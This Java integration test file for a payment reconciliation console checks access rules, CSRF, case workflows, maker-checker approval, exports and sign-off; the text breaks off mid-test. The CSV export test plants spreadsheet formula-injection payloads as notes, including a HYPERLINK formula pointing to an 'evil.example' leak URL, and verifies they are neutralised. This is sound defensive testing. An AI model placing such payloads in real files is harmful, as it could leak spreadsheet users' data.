package com.payrecon.console.reconciliation;

import static com.payrecon.db.Tables.ADJUSTMENT_PROPOSAL;
import static com.payrecon.db.Tables.AUDIT_ENTRY;
import static com.payrecon.db.Tables.DAY_SIGN_OFF;
import static com.payrecon.db.Tables.DISCREPANCY_HISTORY;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.math.BigDecimal;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import com.payrecon.console.ConsoleSession;
import com.payrecon.console.ConsoleTestUsers;
import com.payrecon.console.ConsoleTestUsers.TestUser;
import com.payrecon.console.reconciliation.ReconDays.Planted;
import com.payrecon.order.EventSource;
import com.payrecon.order.OrderEvent;
import com.payrecon.order.OrderRepository;
import com.payrecon.order.OrderStatus;
import com.payrecon.order.PaymentOrder;
import com.payrecon.reconcile.Discrepancies;
import com.payrecon.reconcile.DiscrepancyType;
import com.payrecon.reconcile.Resolution;
import com.payrecon.reconcile.WechatBill;
import com.payrecon.security.Role;
import com.payrecon.support.PayReconIT;
import com.payrecon.support.TestData;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.jooq.DSLContext;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.web.util.HtmlUtils;

/**
 * The reconciliation pages over real HTTP against days reconciled for real ({@link ReconDays}): every access rule,
 * CSRF, the case state machine (also under a race), maker-checker through OrderService, the CSV and XLSX exports
 * and the sign-off.
 */
@PayReconIT
class ReconciliationPagesIT {

	static final String ACCOUNT = ReconDays.ACCOUNT;

	@LocalServerPort
	int port;

	@Autowired
	ConsoleTestUsers users;

	@Autowired
	ReconDays days;

	@Autowired
	Discrepancies discrepancies;

	@Autowired
	OrderRepository orders;

	@Autowired
	DSLContext dsl;

	// ------------------------------------------------------------------------------------------ access

	@Test
	void everyRoleGetsExactlyItsReconciliationPages() {
		Planted p = days.oneMissing();
		String day = dayPath(p);
		// path, SUPPORT, FINANCE, ADMIN
		List<Object[]> matrix = List.of(new Object[] { "/reconciliation", 403, 200, 200 },
				new Object[] { "/reconciliation?account=" + ACCOUNT + "&status=open", 403, 200, 200 },
				new Object[] { day, 403, 200, 200 }, new Object[] { day + "/export.csv", 403, 200, 403 },
				new Object[] { day + "/export.xlsx", 403, 200, 403 });
		ConsoleSession support = session(Role.SUPPORT);
		ConsoleSession finance = session(Role.FINANCE);
		ConsoleSession admin = session(Role.ADMIN);
		for (Object[] row : matrix) {
			String path = (String) row[0];
			assertThat(support.get(path).statusCode()).as("support " + path).isEqualTo(row[1]);
			assertThat(finance.get(path).statusCode()).as("finance " + path).isEqualTo(row[2]);
			assertThat(admin.get(path).statusCode()).as("admin " + path).isEqualTo(row[3]);
			HttpResponse<String> anonymous = new ConsoleSession(port).get(path);
			assertThat(anonymous.statusCode()).as("anonymous " + path).isEqualTo(302);
			assertThat(anonymous.headers().firstValue("Location").orElseThrow()).endsWith("/login");
		}
		assertThat(finance.get("/reconciliation").body()).contains("id=\"nav-reconciliation\"");
		assertThat(support.get("/orders").body()).doesNotContain("id=\"nav-reconciliation\"");
		assertThat(finance.get("/reconciliation/no-such-account/" + p.day()).statusCode()).isEqualTo(404);
		assertThat(finance.get("/reconciliation/" + ACCOUNT + "/2026-13-01").statusCode()).isEqualTo(400);
		assertThat(finance.get("/reconciliation?status=bogus").statusCode()).isEqualTo(400);
	}

	@Test
	void actionsAreRefusedToRolesThatMayNotActAndWithoutACsrfToken() {
		Planted p = days.planted();
		long missing = p.id(DiscrepancyType.MISSING_AT_PROVIDER);
		long late = p.id(DiscrepancyType.LATE_PAYMENT);
		TestUser proposer = users.create(Role.FINANCE);
		ConsoleSession finance = login(proposer).csrfFrom(dayPath(p));
		finance.post("/reconciliation/discrepancies/" + late + "/propose", Map.of("kind", "REOPEN_LATE_PAYMENT", "note", "paid late"));
		long proposal = proposalOf(late);
		Map<String, Map<String, String>> financeOnly = Map.of("/reconciliation/discrepancies/" + missing + "/assign",
				Map.of("assignee", proposer.login()), "/reconciliation/discrepancies/" + missing + "/resolve", Map.of("note", "x"),
				"/reconciliation/discrepancies/" + missing + "/accept", Map.of("note", "x"),
				"/reconciliation/discrepancies/" + missing + "/void", Map.of("note", "x"),
				"/reconciliation/discrepancies/" + p.id(DiscrepancyType.REFUND_UNKNOWN) + "/propose",
				Map.of("kind", "MARK_REFUNDED", "note", "x"), dayPath(p) + "/sign-off", Map.of());
		Map<String, Map<String, String>> decisions = Map.of("/reconciliation/proposals/" + proposal + "/approve",
				Map.of("note", "ok"), "/reconciliation/proposals/" + proposal + "/reject", Map.of("note", "no"));
		ConsoleSession support = session(Role.SUPPORT).csrfFrom("/orders");
		ConsoleSession admin = session(Role.ADMIN).csrfFrom(dayPath(p));
		financeOnly.forEach((path, form) -> {
			assertThat(support.post(path, form).statusCode()).as("support " + path).isEqualTo(403);
			assertThat(admin.post(path, form).statusCode()).as("admin " + path).isEqualTo(403);
			assertThat(finance.postWithoutCsrf(path, form).statusCode()).as("finance without CSRF " + path).isEqualTo(403);
		});
		decisions.forEach((path, form) -> {
			assertThat(support.post(path, form).statusCode()).as("support " + path).isEqualTo(403);
			assertThat(admin.postWithoutCsrf(path, form).statusCode()).as("admin without CSRF " + path).isEqualTo(403);
		});
		assertThat(discrepancies.get(missing).resolution()).isEqualTo(Resolution.OPEN);
		assertThat(discrepancies.get(late).resolution()).isEqualTo(Resolution.OPEN);
		assertThat(proposalState(proposal)).isEqualTo("PROPOSED");
		assertThat(orders.findById(p.late().id()).orElseThrow().status()).isEqualTo(OrderStatus.CLOSED);
		assertThat(dsl.fetchCount(DAY_SIGN_OFF, DAY_SIGN_OFF.ACCOUNT_ID.eq(ACCOUNT), DAY_SIGN_OFF.BUSINESS_DATE.eq(p.day()))).isZero();
		// an admin may decide: a rejection with its reason
		HttpResponse<String> rejected = admin.post("/reconciliation/proposals/" + proposal + "/reject", Map.of("note", "not yet"));
		assertThat(rejected.statusCode()).isEqualTo(302);
		assertThat(proposalState(proposal)).isEqualTo("REJECTED");
	}

	// ------------------------------------------------------------------------------------------ the pages

	@Test
	void theListShowsEachDayWithBothSidesAndTheOpenCasesAcrossDays() {
		Planted a = days.planted();
		Planted b = days.oneMissing();
		ConsoleSession finance = session(Role.FINANCE);
		long runA = a.result().run().id();

		String list = finance.get("/reconciliation?account=" + ACCOUNT + "&from=" + a.day() + "&to=" + a.day()).body();
		assertThat(rowIds(list, "day")).containsExactly(runA);
		String row = rowText(list, "day-" + runA);
		// provider 1.00 + 7.00 + 6.00 + 4.00 paid, 6.00 refunded, fees 4 × 0.01 − 0.01; local 1.00 + 6.00 + 5.00
		assertThat(row).contains("UNBALANCED").contains("4 / 3").contains("18.00 / 12.00").contains("0.03")
			.contains("6.00 / 0.00").contains("11.97 / 12.00");
		assertThat(href(list, "day-link-" + runA)).isEqualTo(dayPath(a));
		assertThat(rowIds(finance.get("/reconciliation?account=" + ACCOUNT + "&from=" + a.day() + "&to=" + b.day()).body(), "day"))
			.containsExactly(b.result().run().id(), runA); // newest day first
		assertThat(rowIds(finance.get("/reconciliation?account=" + ACCOUNT + "&from=" + a.day() + "&to=" + a.day() + "&status=BALANCED")
			.body(), "day")).isEmpty();
		assertThat(rowIds(finance.get("/reconciliation?account=" + ACCOUNT + "&from=" + a.day() + "&to=" + a.day() + "&status=UNBALANCED")
			.body(), "day")).containsExactly(runA);

		// keyset pages of one row: newest day, then the older one, then nothing older
		String range = "/reconciliation?account=" + ACCOUNT + "&from=" + a.day() + "&to=" + b.day() + "&size=1";
		String first = finance.get(range).body();
		assertThat(rowIds(first, "day")).containsExactly(b.result().run().id());
		String second = finance.get(href(first, "page-older")).body();
		assertThat(rowIds(second, "day")).containsExactly(runA);
		assertThat(href(second, "page-older")).isNull();
		assertThat(href(second, "page-newest")).doesNotContain("before=");

		String open = finance.get("/reconciliation?account=" + ACCOUNT + "&status=open").body();
		assertThat(rowIds(open, "case")).contains(a.id(DiscrepancyType.LATE_PAYMENT), a.id(DiscrepancyType.REFUND_UNKNOWN),
				a.id(DiscrepancyType.MISSING_AT_PROVIDER), a.id(DiscrepancyType.MISSING_LOCALLY),
				b.id(DiscrepancyType.MISSING_AT_PROVIDER));
		assertThat(rowText(open, "case-" + a.id(DiscrepancyType.LATE_PAYMENT))).contains(a.day().toString())
			.contains("LATE_PAYMENT").contains(a.late().outTradeNo()).contains("7.00").contains("OPEN");
	}

	@Test
	void theDayShowsTotalsRunsAndEachCaseWithAmountsAndItsOrder() {
		Planted p = days.planted();
		String page = session(Role.ADMIN).get(dayPath(p)).body();
		assertThat(text(page, "day-status")).contains("UNBALANCED");
		assertThat(rowText(page, "total-gross")).contains("18.00").contains("12.00");
		assertThat(rowText(page, "total-refunds")).contains("6.00").contains("0.00");
		assertThat(rowIds(page, "run")).containsExactly(p.result().run().id());
		assertThat(rowIds(page, "case")).hasSize(4);
		long late = p.id(DiscrepancyType.LATE_PAYMENT);
		assertThat(text(page, "case-local-" + late)).isEqualTo("7.00");
		assertThat(text(page, "case-provider-" + late)).isEqualTo("7.00");
		assertThat(href(page, "case-order-" + late)).isEqualTo("/orders/" + p.late().id());
		long unknown = p.id(DiscrepancyType.MISSING_LOCALLY);
		assertThat(text(page, "case-provider-" + unknown)).isEqualTo("4.00");
		assertThat(page).doesNotContain("id=\"case-order-" + unknown + "\""); // no order to link to
		// an admin views but has no case actions, exports or sign-off
		assertThat(page).doesNotContain("id=\"resolve-" + late + "\"").doesNotContain("id=\"export-csv\"")
			.doesNotContain("id=\"propose-" + late + "\"");
		String asFinance = session(Role.FINANCE).get(dayPath(p)).body();
		assertThat(asFinance).contains("id=\"resolve-" + late + "\"").contains("id=\"propose-" + late + "\"")
			.contains("id=\"export-csv\"").doesNotContain("id=\"sign-off\"");
	}

	// ------------------------------------------------------------------------------------------ cases

	@Test
	void aCaseMovesOnlyAlongTheTableWithItsHistoryAndEveryAttemptAudited() {
		Planted p = days.planted();
		TestUser a = users.create(Role.FINANCE);
		ConsoleSession finance = login(a).csrfFrom(dayPath(p));
		long id = p.id(DiscrepancyType.MISSING_AT_PROVIDER);
		String base = "/reconciliation/discrepancies/" + id;

		assertThat(act(finance, base + "/assign", Map.of("assignee", a.login()), p)).isEqualTo("message: Discrepancy " + id + " is ASSIGNED (" + a.login() + ").");
		TestUser support = users.create(Role.SUPPORT);
		assertThat(act(finance, base + "/assign", Map.of("assignee", support.login()), p)).startsWith("error: Assignee " + support.login() + " is not an enabled finance user");
		assertThat(act(finance, base + "/resolve", Map.of("note", "  "), p)).isEqualTo("error: A note is required.");
		assertThat(discrepancies.get(id).resolution()).isEqualTo(Resolution.ASSIGNED);
		assertThat(act(finance, base + "/resolve", Map.of("note", "bank statement shows it on the next day"), p))
			.isEqualTo("message: Discrepancy " + id + " is RESOLVED (" + a.login() + ").");
		assertThat(act(finance, base + "/void", Map.of("note", "test order"), p)).contains("RESOLVED → VOID is not allowed");
		assertThat(discrepancies.get(id).resolution()).isEqualTo(Resolution.RESOLVED);
		assertThat(discrepancies.get(id).resolvedBy()).isEqualTo(a.login());
		long unknown = p.id(DiscrepancyType.MISSING_LOCALLY);
		assertThat(act(finance, "/reconciliation/discrepancies/" + unknown + "/accept", Map.of("note", "a test payment"), p))
			.endsWith("is ACCEPTED.");

		assertThat(dsl.select(DISCREPANCY_HISTORY.ACTION, DISCREPANCY_HISTORY.ACTOR).from(DISCREPANCY_HISTORY)
			.where(DISCREPANCY_HISTORY.DISCREPANCY_ID.eq(id)).orderBy(DISCREPANCY_HISTORY.ID).fetch()
			.map(r -> r.value1() + " " + r.value2())).containsExactly("ASSIGNED " + a.login(), "RESOLVED " + a.login());
		assertThat(audit(a.login(), "discrepancy:" + id)).containsExactly("DISCREPANCY_ASSIGNED SUCCESS",
				"DISCREPANCY_ASSIGNED FAILURE", "DISCREPANCY_RESOLVED FAILURE", "DISCREPANCY_RESOLVED SUCCESS",
				"DISCREPANCY_VOIDED FAILURE");
		String page = finance.get(dayPath(p)).body();
		assertThat(rowText(page, "case-" + id)).contains("RESOLVED").contains("bank statement shows it on the next day")
			.contains("History (2)");
		assertThat(page).doesNotContain("id=\"resolve-" + id + "\"");
	}

	@Test
	void twoFinanceUsersRacingForOneCaseCannotBothWin() throws Exception {
		for (int round = 0; round < 3; round++) {
			Planted p = days.oneMissing();
			long id = p.id(DiscrepancyType.MISSING_AT_PROVIDER);
			ConsoleSession first = session(Role.FINANCE).csrfFrom(dayPath(p));
			ConsoleSession second = session(Role.FINANCE).csrfFrom(dayPath(p));
			CountDownLatch start = new CountDownLatch(1);
			ExecutorService pool = Executors.newFixedThreadPool(2);
			try {
				List<Future<String>> answers = new ArrayList<>();
				for (ConsoleSession s : List.of(first, second)) {
					answers.add(pool.submit(() -> {
						start.await();
						s.post("/reconciliation/discrepancies/" + id + "/resolve", Map.of("note", "mine"));
						return flash(s.get(dayPath(p)).body());
					}));
				}
				start.countDown();
				List<String> results = new ArrayList<>();
				for (Future<String> f : answers) {
					results.add(f.get());
				}
				assertThat(results).as("round " + round).filteredOn(r -> r.startsWith("message:")).hasSize(1);
				assertThat(results).as("round " + round).filteredOn(r -> r.startsWith("error:")).hasSize(1);
			}
			finally {
				pool.shutdownNow();
			}
			assertThat(discrepancies.get(id).resolution()).isEqualTo(Resolution.RESOLVED);
			assertThat(dsl.fetchCount(DISCREPANCY_HISTORY, DISCREPANCY_HISTORY.DISCREPANCY_ID.eq(id))).isEqualTo(1);
			assertThat(dsl.fetchCount(AUDIT_ENTRY, AUDIT_ENTRY.TARGET.eq("discrepancy:" + id),
					AUDIT_ENTRY.ACTION.eq("DISCREPANCY_RESOLVED"), AUDIT_ENTRY.OUTCOME.eq("SUCCESS"))).isEqualTo(1);
		}
	}

	// ------------------------------------------------------------------------------------------ maker-checker

	@Test
	void aLatePaymentIsAppliedThroughOrderServiceOnlyWhenADifferentPersonApproves() {
		Planted p = days.planted();
		long late = p.id(DiscrepancyType.LATE_PAYMENT);
		TestUser maker = users.create(Role.FINANCE);
		TestUser checker = users.create(Role.FINANCE);
		ConsoleSession makerSession = login(maker).csrfFrom(dayPath(p));
		ConsoleSession checkerSession = login(checker).csrfFrom(dayPath(p));
		int eventsBefore = orders.events(p.late().id()).size();

		assertThat(act(makerSession, "/reconciliation/discrepancies/" + late + "/propose",
				Map.of("kind", "REOPEN_LATE_PAYMENT", "note", "customer paid after expiry, goods shipped"), p))
			.startsWith("message: Proposal ").endsWith("a different finance or admin user must approve it.");
		long proposal = proposalOf(late);
		assertThat(act(makerSession, "/reconciliation/discrepancies/" + late + "/resolve", Map.of("note", "done"), p))
			.startsWith("error: A proposal for this discrepancy waits for approval");
		assertThat(makerSession.get(dayPath(p)).body()).doesNotContain("id=\"approve-" + proposal + "\"");
		assertThat(act(makerSession, "/reconciliation/proposals/" + proposal + "/approve", Map.of("note", ""), p))
			.isEqualTo("error: You proposed this change: a different finance or admin user must approve it.");
		assertThat(orders.findById(p.late().id()).orElseThrow().status()).isEqualTo(OrderStatus.CLOSED);
		assertThat(proposalState(proposal)).isEqualTo("PROPOSED");

		assertThat(checkerSession.get(dayPath(p)).body()).contains("id=\"approve-" + proposal + "\"");
		assertThat(act(checkerSession, "/reconciliation/proposals/" + proposal + "/approve", Map.of("note", "seen the bill"), p))
			.isEqualTo("message: Proposal " + proposal + " APPROVED.");

		PaymentOrder paid = orders.findById(p.late().id()).orElseThrow();
		assertThat(paid.status()).isEqualTo(OrderStatus.PAID);
		assertThat(paid.providerTxnId()).isEqualTo(p.lateTxn());
		assertThat(paid.paidAt()).isEqualTo(p.day().atTime(10, 0).atZone(ReconDays.SHANGHAI).toInstant());
		List<OrderEvent> added = orders.events(p.late().id()).subList(eventsBefore, orders.events(p.late().id()).size());
		assertThat(added).singleElement().satisfies(e -> {
			assertThat(e.eventType()).isEqualTo(OrderEvent.STATUS_CHANGED);
			assertThat(e.fromStatus()).isEqualTo(OrderStatus.CLOSED);
			assertThat(e.toStatus()).isEqualTo(OrderStatus.PAID);
			assertThat(e.source()).isEqualTo(EventSource.OPERATOR);
			assertThat(e.actor()).isEqualTo(checker.login());
			assertThat(e.reason()).contains("proposed by " + maker.login()).contains("approved by " + checker.login())
				.contains("discrepancy " + late);
		});
		assertThat(discrepancies.get(late).resolution()).isEqualTo(Resolution.RESOLVED);
		assertThat(discrepancies.get(late).resolvedBy()).isEqualTo(checker.login());
		assertThat(audit(maker.login(), "discrepancy:" + late)).containsExactly("ADJUSTMENT_PROPOSED SUCCESS",
				"DISCREPANCY_RESOLVED FAILURE", "ADJUSTMENT_APPROVED FAILURE");
		assertThat(audit(checker.login(), "discrepancy:" + late)).containsExactly("ADJUSTMENT_APPROVED SUCCESS",
				"DISCREPANCY_RESOLVED SUCCESS");

		// deciding twice changes nothing
		assertThat(act(checkerSession, "/reconciliation/proposals/" + proposal + "/approve", Map.of("note", ""), p))
			.isEqualTo("error: Proposal " + proposal + " is APPROVED already.");
		assertThat(orders.events(p.late().id())).hasSize(eventsBefore + 1);
	}

	@Test
	void twoCheckersApprovingTheSameProposalAtOnceChangeTheOrderOnce() throws Exception {
		Planted p = days.planted();
		long late = p.id(DiscrepancyType.LATE_PAYMENT);
		act(session(Role.FINANCE).csrfFrom(dayPath(p)), "/reconciliation/discrepancies/" + late + "/propose",
				Map.of("kind", "REOPEN_LATE_PAYMENT", "note", "paid late"), p);
		long proposal = proposalOf(late);
		int eventsBefore = orders.events(p.late().id()).size();
		List<ConsoleSession> checkers = List.of(session(Role.FINANCE).csrfFrom(dayPath(p)), session(Role.ADMIN).csrfFrom(dayPath(p)));
		CountDownLatch start = new CountDownLatch(1);
		ExecutorService pool = Executors.newFixedThreadPool(2);
		List<String> results = new ArrayList<>();
		try {
			List<Future<String>> answers = new ArrayList<>();
			for (ConsoleSession s : checkers) {
				answers.add(pool.submit(() -> {
					start.await();
					s.post("/reconciliation/proposals/" + proposal + "/approve", Map.of("note", "ok"));
					return flash(s.get(dayPath(p)).body());
				}));
			}
			start.countDown();
			for (Future<String> f : answers) {
				results.add(f.get());
			}
		}
		finally {
			pool.shutdownNow();
		}
		assertThat(results).filteredOn(r -> r.equals("message: Proposal " + proposal + " APPROVED.")).hasSize(1);
		assertThat(results).filteredOn(r -> r.startsWith("error: ")).hasSize(1);
		assertThat(proposalState(proposal)).isEqualTo("APPROVED");
		assertThat(orders.findById(p.late().id()).orElseThrow().status()).isEqualTo(OrderStatus.PAID);
		assertThat(orders.events(p.late().id())).hasSize(eventsBefore + 1);
	}

	@Test
	void aRefundIsMarkedOnlyAfterApprovalAndARejectionNeedsAReasonAndChangesNothing() {
		Planted p = days.planted();
		long mismatch = p.id(DiscrepancyType.REFUND_UNKNOWN);
		TestUser maker = users.create(Role.FINANCE);
		TestUser admin = users.create(Role.ADMIN);
		ConsoleSession makerSession = login(maker).csrfFrom(dayPath(p));
		ConsoleSession adminSession = login(admin).csrfFrom(dayPath(p));
		String propose = "/reconciliation/discrepancies/" + mismatch + "/propose";

		assertThat(act(makerSession, propose, Map.of("kind", "REOPEN_LATE_PAYMENT", "note", "wrong kind"), p))
			.startsWith("error: Only a late payment for a CLOSED order can reopen it");
		assertThat(act(makerSession, "/reconciliation/discrepancies/" + p.id(DiscrepancyType.MISSING_AT_PROVIDER) + "/propose",
				Map.of("kind", "MARK_REFUNDED", "note", "no line"), p))
			.startsWith("error: Only a discrepancy between a bill line and one of our orders");
		act(makerSession, propose, Map.of("kind", "MARK_REFUNDED", "note", "refunded by the provider's support"), p);
		long first = proposalOf(mismatch);
		assertThat(act(adminSession, "/reconciliation/proposals/" + first + "/reject", Map.of("note", " "), p))
			.isEqualTo("error: A reason is required.");
		assertThat(act(adminSession, "/reconciliation/proposals/" + first + "/reject", Map.of("note", "ask the bank first"), p))
			.isEqualTo("message: Proposal " + first + " REJECTED.");
		assertThat(orders.findById(p.refunded().id()).orElseThrow().status()).isEqualTo(OrderStatus.PAID);
		assertThat(discrepancies.get(mismatch).resolution()).isEqualTo(Resolution.OPEN);

		act(makerSession, propose, Map.of("kind", "MARK_REFUNDED", "note", "the bank confirmed the refund"), p);
		long second = proposalOf(mismatch);
		assertThat(second).isNotEqualTo(first);
		assertThat(act(adminSession, "/reconciliation/proposals/" + second + "/approve", Map.of("note", "bank statement seen"), p))
			.isEqualTo("message: Proposal " + second + " APPROVED.");
		assertThat(orders.findById(p.refunded().id()).orElseThrow().status()).isEqualTo(OrderStatus.REFUNDED);
		OrderEvent last = orders.events(p.refunded().id()).getLast();
		assertThat(last.fromStatus()).isEqualTo(OrderStatus.PAID);
		assertThat(last.toStatus()).isEqualTo(OrderStatus.REFUNDED);
		assertThat(last.source()).isEqualTo(EventSource.OPERATOR);
		assertThat(last.reason()).contains("proposed by " + maker.login()).contains("approved by " + admin.login());
		assertThat(dsl.select(DISCREPANCY_HISTORY.ACTION).from(DISCREPANCY_HISTORY)
			.where(DISCREPANCY_HISTORY.DISCREPANCY_ID.eq(mismatch)).orderBy(DISCREPANCY_HISTORY.ID).fetch(DISCREPANCY_HISTORY.ACTION))
			.containsExactly("PROPOSED", "REJECTED", "PROPOSED", "APPROVED", "RESOLVED");
		assertThat(rowText(makerSession.get(dayPath(p)).body(), "proposal-" + first)).contains("REJECTED").contains("ask the bank first");
	}

	/**
	 * Issue 11: an admin who gives two finance users a role (or creates them) must not end up with a pair that
	 * approves each other's order changes; for 7 days the two are tied.
	 */
	@Test
	void twoFinanceUsersHandedPowerByOneAdminDoNotApproveEachOther() {
		Planted p = days.planted();
		long late = p.id(DiscrepancyType.LATE_PAYMENT);
		TestUser admin = users.create(Role.ADMIN);
		TestUser maker = users.create(Role.FINANCE);
		TestUser checker = users.create(Role.FINANCE);
		ConsoleSession adminSession = login(admin).csrfFrom("/admin/users");
		for (TestUser u : List.of(maker, checker)) {
			adminSession.post("/admin/users/" + u.id() + "/roles", Map.of("roles", "FINANCE,SUPPORT"));
		}
		ConsoleSession makerSession = login(maker).csrfFrom(dayPath(p));
		ConsoleSession checkerSession = login(checker).csrfFrom(dayPath(p));
		act(makerSession, "/reconciliation/discrepancies/" + late + "/propose",
				Map.of("kind", "REOPEN_LATE_PAYMENT", "note", "paid after expiry"), p);
		long proposal = proposalOf(late);

		assertThat(act(checkerSession, "/reconciliation/proposals/" + proposal + "/approve", Map.of("note", ""), p))
			.startsWith("error: " + checker.login() + " may not approve a proposal of " + maker.login() + " until ")
			.contains(admin.login() + " handed power to ");
		assertThat(proposalState(proposal)).isEqualTo("PROPOSED");
		assertThat(orders.findById(p.late().id()).orElseThrow().status()).isEqualTo(OrderStatus.CLOSED);
		assertThat(audit(checker.login(), "discrepancy:" + late)).containsExactly("ADJUSTMENT_APPROVED FAILURE");
		// an admin not tied to either approves
		TestUser other = users.create(Role.ADMIN);
		assertThat(act(login(other).csrfFrom(dayPath(p)), "/reconciliation/proposals/" + proposal + "/approve",
				Map.of("note", "checked the bill line"), p)).isEqualTo("message: Proposal " + proposal + " APPROVED.");
	}

	// ------------------------------------------------------------------------------------------ exports

	@Test
	void theDayExportsAsCsvWithTotalsEveryCaseAndNoCellThatASpreadsheetWouldRun() {
		Planted p = days.planted();
		TestUser a = users.create(Role.FINANCE);
		ConsoleSession finance = login(a).csrfFrom(dayPath(p));
		String hyperlink = "=HYPERLINK(\"http://evil.example/?leak\",\"click\")";
		act(finance, "/reconciliation/discrepancies/" + p.id(DiscrepancyType.MISSING_AT_PROVIDER) + "/resolve", Map.of("note", hyperlink), p);
		act(finance, "/reconciliation/discrepancies/" + p.id(DiscrepancyType.MISSING_LOCALLY) + "/accept", Map.of("note", "@SUM(1+1)"), p);
		act(finance, "/reconciliation/discrepancies/" + p.id(DiscrepancyType.REFUND_UNKNOWN) + "/void", Map.of("note", "+1+1"), p);
		act(finance, "/reconciliation/discrepancies/" + p.id(DiscrepancyType.LATE_PAYMENT) + "/accept", Map.of("note", "-2+3, kept"), p);

		HttpResponse<String> response = finance.get(dayPath(p) + "/export.csv");
		assertThat(response.statusCode()).isEqualTo(200);
		assertThat(response.headers().firstValue("Content-Type").orElseThrow()).startsWith("text/csv").contains("UTF-8");
		assertThat(response.headers().firstValue("Content-Disposition").orElseThrow())
			.isEqualTo("attachment; filename=\"reconciliation-" + ACCOUNT + "-" + p.day() + ".csv\"");
		String body = response.body();
		assertThat(body).startsWith("\uFEFF"); // the BOM Excel needs to read UTF-8
		List<List<String>> csv = parseCsv(body.substring(1));
		assertThat(csv.get(0)).containsExactly("PayRecon reconciliation", ACCOUNT, p.day().toString());
		assertThat(csv.get(1)).containsExactly("Zone", "Asia/Shanghai");
		assertThat(csv).contains(List.of("Payments (count)", "4", "3"), List.of("Gross (yuan)", "18.00", "12.00"),
				List.of("Fees (yuan)", "0.03", ""), List.of("Refunds (yuan)", "6.00", "0.00"), List.of("Net (yuan)", "11.97", "12.00"));
		List<String> header = csv.stream().filter(r -> r.get(0).equals("Discrepancy")).findFirst().orElseThrow();
		assertThat(header).hasSize(16);
		List<List<String>> cases = csv.subList(csv.indexOf(header) + 1, csv.size());
		assertThat(cases).hasSize(4);
		List<String> late = byOutTradeNo(cases, p.late().outTradeNo());
		assertThat(late.get(1)).isEqualTo("LATE_PAYMENT");
		assertThat(late.get(3)).isEqualTo(p.lateTxn());
		assertThat(late.get(4)).isEqualTo(Long.toString(p.late().id()));
		assertThat(late.subList(5, 9)).containsExactly("7.00", "7.00", "CLOSED", "SUCCESS");
		assertThat(late.get(10)).isEqualTo("ACCEPTED");
		assertThat(late.get(12)).isEqualTo("'-2+3, kept");
		assertThat(late.get(13)).isEqualTo(a.login());
		assertThat(late.get(14)).matches("\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}:\\d{2}");
		assertThat(byOutTradeNo(cases, p.missing().outTradeNo()).get(12)).isEqualTo("'" + hyperlink);
		assertThat(byOutTradeNo(cases, p.unknown()).get(12)).isEqualTo("'@SUM(1+1)");
		assertThat(byOutTradeNo(cases, p.refunded().outTradeNo()).get(12)).isEqualTo("'+1+1");
		// no cell at all begins with what a spreadsheet evaluates (amounts are plain numbers we wrote)
		csv.stream().flatMap(List::stream).filter(c -> !c.matches("-?\\d+(\\.\\d{2})?"))
			.forEach(c -> assertThat(c).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@"));
		assertThat(dsl.select(AUDIT_ENTRY.DETAILS).from(AUDIT_ENTRY).where(AUDIT_ENTRY.ACTOR.eq(a.login()),
				AUDIT_ENTRY.ACTION.eq("EXPORT"), AUDIT_ENTRY.TARGET.eq("reconciliation:" + ACCOUNT + "/" + p.day())).fetch(AUDIT_ENTRY.DETAILS))
			.singleElement().asString().startsWith("CSV, run " + p.result().run().id() + ", 4 discrepancies");
	}

	@Test
	void theDayExportsAsAnXlsxThatOpensWithAmountsAsNumbers() throws Exception {
		Planted p = days.planted();
		TestUser a = users.create(Role.FINANCE);
		ConsoleSession finance = login(a);
		HttpResponse<byte[]> response = HttpClient.newHttpClient()
			.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + dayPath(p) + "/export.xlsx"))
				.header("Cookie", "JSESSIONID=" + finance.sessionId().orElseThrow())
				.build(), HttpResponse.BodyHandlers.ofByteArray());
		assertThat(response.statusCode()).isEqualTo(200);
		assertThat(response.headers().firstValue("Content-Type").orElseThrow())
			.isEqualTo("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
		try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(response.body()))) {
			var sheet = workbook.getFirstSheet();
			assertThat(sheet.getName()).isEqualTo("Reconciliation");
			List<Row> rows = sheet.read();
			Row gross = rows.stream().filter(r -> "Gross (yuan)".equals(r.getCellText(0))).findFirst().orElseThrow();
			assertThat(gross.getCellAsNumber(1)).hasValueSatisfying(n -> assertThat(n).isEqualByComparingTo(new BigDecimal("18.00")));
			assertThat(gross.getCellAsNumber(2)).hasValueSatisfying(n -> assertThat(n).isEqualByComparingTo(new BigDecimal("12.00")));
			Row late = rows.stream().filter(r -> p.late().outTradeNo().equals(r.getCellText(2))).findFirst().orElseThrow();
			assertThat(late.getCellText(1)).isEqualTo("LATE_PAYMENT");
			assertThat(late.getCellAsNumber(5)).hasValueSatisfying(n -> assertThat(n).isEqualByComparingTo(new BigDecimal("7.00")));
			assertThat(late.getCellText(10)).isEqualTo("OPEN");
			assertThat(rows.stream().filter(r -> r.getCellCount() > 2 && "LATE_PAYMENT,REFUND_UNKNOWN,MISSING_AT_PROVIDER,MISSING_LOCALLY"
				.contains(Optional.ofNullable(r.getCellText(1)).orElse("#")) && !r.getCellText(1).isEmpty())).hasSize(4);
		}
	}

	// ------------------------------------------------------------------------------------------ sign-off

	@Test
	void aDayIsSignedOffOnlyOnceNoCaseIsOpenAndARerunThatChangesItClearsTheSignOff() {
		Planted p = days.oneMissing();
		TestUser a = users.create(Role.FINANCE);
		ConsoleSession finance = login(a).csrfFrom(dayPath(p));
		String target = "reconciliation:" + ACCOUNT + "/" + p.day();

		assertThat(act(finance, dayPath(p) + "/sign-off", Map.of(), p)).startsWith("error: 1 discrepancies are still open or assigned");
